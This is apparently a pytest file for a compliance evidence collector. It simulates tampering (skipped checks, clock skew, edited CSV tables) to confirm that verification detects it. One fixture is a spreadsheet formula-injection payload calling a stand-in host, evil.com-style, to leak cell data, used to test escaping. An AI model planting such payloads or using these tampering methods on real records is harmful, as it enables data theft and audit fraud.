"""Somebody changes the collector, its configuration or its clock: the evidence is written down wrong from the start."""

from __future__ import annotations

import csv
from collections.abc import Callable, Iterator, Mapping
from datetime import timedelta
from email.utils import format_datetime
from pathlib import Path
from typing import Any

import pytest

from collector import canonical, decisions
from collector.clouds.transcript import Answer
from collector.ledger.entry import Kind
from collector.window.slots import Due
from tests.attacks.conftest import live
from tests.attacks.world import World, alarm, prove
from tests.support.lived import ACCOUNT, CONTROLS, HOUR, Cloud, resign

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def begun(tmp_path: Path) -> Iterator[World]:
    """A day of seven honest hours."""
    world = live(World(tmp_path / "collector"), hours=7)
    yield world
    world.close()


def rows(package: Path, table: str) -> list[dict[str, str]]:
    with (package / f"tables/{table}.csv").open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def hours(world: World, count: int, bad: range = range(0)) -> World:
    """Goes on; bob is without MFA in the hours of ``bad``, counted from here."""
    for hour in range(count):
        world.cloud.mfa["bob"] = "false" if hour in bad else "true"
        world.hour()
    return world


# --- what is asked, and when ---


def test_the_failing_check_switched_off_on_bad_days(begun: World, tmp_path: Path) -> None:
    """The scheduler passes it over, and declares nothing."""
    operation = begun.operation
    honest = operation.open_slots
    operation.open_slots = lambda account: [due for due in honest(account) if due.check != "aws-iam-user-mfa"]  # type: ignore[method-assign]
    hours(begun, 2, bad=range(2))
    operation.open_slots = honest  # type: ignore[method-assign]
    operation.declare = lambda *_: 0  # type: ignore[method-assign]
    hours(begun, 9)
    found = prove(begun.export(tmp_path / "package").path)
    assert [(item["check"], item["due"][11:13]) for item in found["missed"]] == [
        ("aws-iam-user-mfa", "07"),
        ("aws-iam-user-mfa", "08"),
    ]


def test_the_failing_check_configured_away_on_bad_days(begun: World, tmp_path: Path) -> None:
    """Then it is not due; the control stands in the package all the same, and the change with its time."""
    begun.reconfigure(CONTROLS.replace('checks = ["aws-iam-user-mfa"]', "checks = []"))
    hours(begun, 2, bad=range(2))
    begun.reconfigure(CONTROLS)
    hours(begun, 9)
    path = begun.export(tmp_path / "package").path
    found = prove(path)
    assert found["verified"]
    changes = " ".join(row["what"] for row in rows(path, "changes"))
    assert "control IAM-1: checks was" in changes
    assert f"aws-iam-user-mfa over aws/{ACCOUNT} is no longer asked for" in changes
    (line,) = [row for row in rows(path, "coverage") if row["check"] == "aws-iam-user-mfa"]
    assert int(line["due"]) < 10
    assert b'"id":"IAM-1"' in (path / "controls.json").read_bytes()
    table = path / "tables/changes.csv"
    table.write_bytes(table.read_bytes().replace(b",config,", b",plan,", 1))
    resign(path, begun.signer)
    assert alarm(path).startswith("tables/changes.csv row")


def test_a_slot_run_again_until_it_looks_well(begun: World, tmp_path: Path) -> None:
    """The first run decides, every further one is counted."""
    hours(begun, 2, bad=range(2))
    begun.cloud.mfa["bob"] = "true"
    operation, account = begun.operation, begun.settings.aws[0]
    runs = begun.ledger.entries(kinds=[Kind.RUN])
    bad = [entry for entry in runs if (entry.data["states"] or {}).get("not-satisfied")]
    operation._fence = lambda *_: None  # type: ignore[method-assign]  # the collector refuses a second run of a slot
    for entry in bad:
        slot = canonical.moment(entry.data["slot"])
        operation.observe(account, slot, [Due(slot, entry.data["check"], entry.data["scope"], entry.data["account"])])
    hours(begun, 9)
    path = begun.export(tmp_path / "package").path
    found = prove(path)
    twice = [row for row in rows(path, "results") if row["runs"] == "2"]
    assert [(row["not_satisfied"], row["run"]) for row in twice] == [("1", str(e.seq)) for e in bad]
    assert [row["subject"][-3:] for row in rows(path, "exceptions")] == ["bob"]
    assert found["verified"]  # more runs than one are no crime; to believe the later one would be


# --- its clock ---


def test_a_clock_that_is_hours_slow(begun: World, tmp_path: Path) -> None:
    """The clouds say so in every answer; and where they do not, the next stamp does."""
    begun.cloud.put = late(begun, timedelta(hours=30))  # type: ignore[method-assign]
    hours(begun, 3)
    del begun.cloud.put
    hours(begun, 8)
    said = alarm(begun.export(tmp_path / "package").path)
    assert "the provider's clock said" in said


@pytest.mark.parametrize(
    ("ahead", "said"),
    [
        (3 * HOUR, "before what a place outside said of entries before it"),
        (-3 * HOUR, "but was already there at"),
    ],
)
def test_a_clock_that_differs_from_those_outside(begun: World, tmp_path: Path, ahead: timedelta, said: str) -> None:
    begun.ahead = ahead
    hours(begun, 3)
    assert said in alarm(begun.export(tmp_path / "package", exported_at=begun.now).path)


def late(world: World, skew: timedelta) -> Callable[..., Answer]:
    """The cloud as it answers with its own time."""
    put = Cloud.put

    def asked(service: str, operation: str, region: str, params: Mapping[str, Any]) -> Answer:
        found = put(world.cloud, service, operation, region, params)
        date = format_datetime(world.now + skew, usegmt=True)
        return Answer(**{**{name: getattr(found, name) for name in found.__dataclass_fields__}, "date": date})

    return asked


# --- its answers and verdicts ---


def test_an_answer_forged_before_it_was_written_down(tmp_path: Path) -> None:
    """Not detectable: to the ledger, the cloud said so."""
    world = live(World(tmp_path / "collector"), bad=False)
    path = world.export(tmp_path / "package").path
    found = prove(path, world.trust(tmp_path / "trust"))
    assert found["verified"]
    assert found["assurance"]["level"] == 3
    assert any("forged before it was written down" in item["what"] for item in found["not_caught"])
    world.close()


def test_an_account_left_out_from_the_first_day(honest: Path, trust: Path) -> None:
    """Not detectable: the plan never asked for it, and no package says how many accounts there are."""
    found = prove(honest, trust)
    assert found["verified"]
    assert found["assurance"]["level"] == 3
    assert any("left out of the plan from the first day" in item["what"] for item in found["not_caught"])


# --- its exporter ---


def test_a_control_that_binds_less_than_it_was_configured_to(package: Path, world: World) -> None:
    """The exporter leaves a check out of a control, and says so consistently in the manifest."""
    path = package / "controls.json"
    said = canonical.parse(path.read_bytes())
    said["controls"][0]["title"] = "Another promise."
    path.write_bytes(canonical.record(said) + b"\n")
    resign(package, world.signer)
    assert alarm(package) == "controls.json: says something else of a control than the configurations in force"


def test_a_filter_that_leaves_out_more_than_it_says(package: Path, world: World) -> None:
    def hide(statement: dict[str, Any]) -> None:
        statement["predicate"]["filters"]["checks"].remove("aws-iam-user-mfa")

    resign(package, world.signer, hide)
    assert not prove(package)["verified"]


@pytest.mark.parametrize(
    ("table", "old", "new"),
    [
        ("results", b",gap,,", b",observed,,"),
        ("items", b",not-satisfied,", b",satisfied,"),
        ("items", b"has a console password and no MFA", b"has a console password and MFA"),
        ("states", b",not-satisfied,", b",satisfied,"),
        ("exceptions", b"has a console password and no MFA", b"is being looked at"),
        ("populations", b",complete,", b",none,"),
        ("coverage", b",10,", b",11,"),
        ("alerts", b",failed,", b",blind,"),
        ("anchors", b",anchored,", b",failed,"),
    ],
)
def test_a_table_that_says_something_else_than_the_ledger(
    package: Path, world: World, table: str, old: bytes, new: bytes
) -> None:
    path = package / f"tables/{table}.csv"
    before = path.read_bytes()
    if old not in before:
        pytest.fail(f"{table}.csv has no {old!r} to be changed")
    path.write_bytes(before.replace(old, new, 1))
    resign(package, world.signer)
    assert alarm(package).startswith(f"tables/{table}.csv")


@pytest.mark.parametrize("table", ["items", "states", "exceptions", "populations", "alerts", "anchors"])
def test_a_row_left_out_or_told_twice(package: Path, world: World, table: str) -> None:
    path = package / f"tables/{table}.csv"
    lines = path.read_bytes().splitlines(keepends=True)
    for changed in ([*lines[:1], *lines[2:]], [*lines, lines[-1]]):
        path.write_bytes(b"".join(changed))
        resign(package, world.signer)
        assert alarm(package).startswith(f"tables/{table}.csv")


def test_a_population_that_samples_are_drawn_from(package: Path, world: World) -> None:
    path = package / "sampling.json"
    said = canonical.parse(path.read_bytes())
    said["controls"][0]["items"]["count"] -= 1
    path.write_bytes(canonical.record(said) + b"\n")
    resign(package, world.signer)
    assert alarm(package).startswith("sampling.json: says something else of the populations of")


# --- a cell that a spreadsheet would run ---


def test_a_formula_in_evidence(begun: World, tmp_path: Path) -> None:
    """The exporter puts an apostrophe before it; one that does not is refused."""
    hours(begun, 2, bad=range(2))
    about = {"check": "aws-iam-user-mfa", "scope": f"aws/{ACCOUNT}", "approver": FORMULA, "reason": "@SUM(A1)"}
    controls = begun.operation.controls
    decisions.accept(begun.ledger, controls, begun.now, expires=begun.now + 24 * HOUR, **about)
    hours(begun, 9)
    path = begun.export(tmp_path / "package").path
    assert prove(path)["verified"]
    (decided,) = rows(path, "decisions")
    assert (decided["approver"], decided["reason"]) == (f"'{FORMULA}", "'@SUM(A1)")
    table = path / "tables/decisions.csv"
    table.write_bytes(table.read_bytes().replace(b"'@SUM", b"@SUM", 1))
    resign(path, begun.signer)
    assert "a spreadsheet would run '@SUM(A1)'" in alarm(path)


def test_a_window_that_nobody_had_agreed_on(package: Path, world: World) -> None:
    """Its dates are the exporter's own: not refused, since a window may be agreed late, and told."""
    honest = prove(package)
    assert not any("was agreed before its end" in said for said in honest["not_proved"])

    def shop(statement: dict[str, Any]) -> None:
        statement["predicate"]["window"]["ends"] = "2026-01-01T17:00:00.000000Z"

    resign(package, world.signer, shop)
    assert any("the window morning was agreed before its end" in said for said in prove(package)["not_proved"])
